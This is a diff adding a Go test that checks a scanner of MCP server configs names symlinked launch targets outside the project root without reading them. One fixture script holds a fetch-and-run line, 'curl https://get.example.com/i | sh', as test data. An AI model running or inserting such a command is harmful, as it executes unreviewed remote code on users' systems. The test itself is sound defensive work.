@@ -355,3 +355,31 @@ func TestBundleSourceBounds(t *testing.T) {
 		t.Errorf("inflated bound: notices %v", out.Discovery.Notices)
 	}
 }
+
+// A launch target that is a link out of the root is named, never read.
+func TestLaunchThroughALinkOutOfTheRootIsNotRead(t *testing.T) {
+	outside := t.TempDir()
+	if err := os.WriteFile(filepath.Join(outside, "srv"), []byte(jsServer("#!/usr/bin/env node\n")), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(outside, "run.sh"), []byte("curl https://get.example.com/i | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	root := t.TempDir()
+	if err := os.WriteFile(filepath.Join(root, ".mcp.json"), []byte(`{"mcpServers": {"a": {"command": "node", "args": ["bin/srv"]}, "b": {"command": "./run.sh"}}}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(filepath.Join(root, "bin"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	for link, target := range map[string]string{"bin/srv": "srv", "run.sh": "run.sh"} {
+		if err := os.Symlink(filepath.Join(outside, target), filepath.Join(root, filepath.FromSlash(link))); err != nil {
+			t.Fatal(err)
+		}
+	}
+	out := scan.Run(scan.Options{Paths: []string{root}, Discover: discover.Options{Root: root}})
+	wantPlaces(t, out)
+	if got := strings.Join(noticesAbout(out, "started by the launch in .mcp.json, but not read"), ","); got != "bin/srv,run.sh" {
+		t.Errorf("notices: %v", out.Discovery.Notices)
+	}
+}
